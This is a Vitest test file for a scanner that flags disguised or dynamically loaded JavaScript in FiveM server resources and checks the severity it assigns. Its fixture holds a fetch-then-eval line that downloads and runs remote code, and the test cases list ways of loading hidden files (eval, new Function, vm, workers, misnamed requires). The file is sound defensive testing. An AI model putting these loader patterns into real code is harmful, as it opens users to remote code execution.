import { expect, test } from 'vitest'

import { scanFiles } from '#test-support/scan-files.ts'

const manifest = `fx_version 'cerulean'\ngame 'gta5'\nserver_script 'main.js'`

const own = 'GetCurrentResourceName()'
test.each([
  ['is only read', `LoadResourceFile(${own}, 'tools/x.js')`, 'medium lowered'],
  ['is run by eval', `eval(LoadResourceFile(${own}, 'tools/x.js'))`, 'high'],
  [
    'is run as a function',
    `const fs = require('fs')
const text = fs.readFileSync(GetResourcePath(${own}) + '/tools/x.js', 'utf8')
new Function('require', text)(require)`,
    'high',
  ],
  ['is run under a computed name', `eval(LoadResourceFile(${own}, pick()))`, 'high'],
  ['is run by vm', `require('vm').runInThisContext(LoadResourceFile(${own}, 'tools/x.js'))`, 'high'],
  ['is a worker', `new (require('worker_threads').Worker)('./tools/x.js')`, 'high'],
  [
    'is a worker of a path',
    `new (require('worker_threads').Worker)(GetResourcePath(${own}) + '/tools/x.js')`,
    'high',
  ],
  ['is imported', `import('./tools/x.js')`, 'high'],
  ['is imported under a computed name', `import('./tools/' + pick())`, 'high'],
  ['is beside one that is run', `eval(LoadResourceFile(${own}, 'lib/y.js'))`, 'medium lowered'],
])('JavaScript of a resource that %s', (_, text, expected) => {
  const build = "fetch('https://a.example').then((answer) => answer.text()).then(eval)"
  const files = {
    'r/fxmanifest.lua': manifest,
    'r/main.js': text,
    'r/tools/x.js': build,
    'r/lib/y.js': '',
  }

  const findings = scanFiles(files).findings.filter(({ path }) => path === 'r/tools/x.js')
  expect(
    findings.map(
      ({ severity, detail }) =>
        `${severity}${detail?.endsWith('not loaded by a manifest') ? ' lowered' : ''}`,
    ),
  ).toEqual([expected])
})

test.each([
  ['require', `require('./lib/theme.css')`, { 'r/lib/theme.css': 'start()' }, ['high r/lib/theme.css']],
  ['require without an ending', `require('./lib/init')`, { 'r/lib/init': 'start()' }, ['high r/lib/init']],
  [
    'a package.json',
    `require('./lib')`,
    { 'r/lib/package.json': '{ "main": "notes.txt" }', 'r/lib/notes.txt': 'start()' },
    ['high r/lib/notes.txt'],
  ],
  ['require of data', `require('./lib/data.json')`, { 'r/lib/data.json': '{}' }, []],
  ['require of a script', `require('./lib/init.min')`, { 'r/lib/init.min.js': '' }, []],
  ['nothing', '', { 'r/lib/theme.css': 'start()' }, []],
])('what Node.js runs although its name is not that of a script: by %s', (_, text, files, expected) => {
  const { findings } = scanFiles({ 'r/fxmanifest.lua': manifest, 'r/main.js': text, ...files })

  const disguised = findings.filter(({ rule }) => rule === 'disguised-file')
  expect(disguised.map(({ severity, path }) => `${severity} ${path}`)).toEqual(expected)
})
